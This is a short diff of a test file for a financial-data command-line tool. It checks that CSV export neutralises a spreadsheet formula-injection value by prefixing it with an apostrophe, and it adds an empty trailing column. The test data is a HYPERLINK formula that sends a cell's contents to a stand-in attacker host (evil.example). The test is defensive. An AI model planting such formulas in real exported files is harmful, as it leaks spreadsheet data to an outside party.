@@ -521,7 +521,7 @@ def test_table_csv_prefixes_formula_text_and_keeps_negative_numbers(hostile_stor
     ]
     facts = run("table", "financials", "--db", hostile_store, "--format", "csv")
     assert facts.returncode == 0, facts.stderr
-    assert facts.stdout.splitlines()[1] == '600001.SH,"\'=HYPERLINK(""http://evil.example/?""&A1,""点我"")",2023A,revenue_yoy,-0.05'
+    assert facts.stdout.splitlines()[1] == '600001.SH,"\'=HYPERLINK(""http://evil.example/?""&A1,""点我"")",2023A,revenue_yoy,-0.05,'  # no as-of date
 
 
 def test_record_status_log_csv_keeps_formula_text_inert(demo_path, tmp_path):
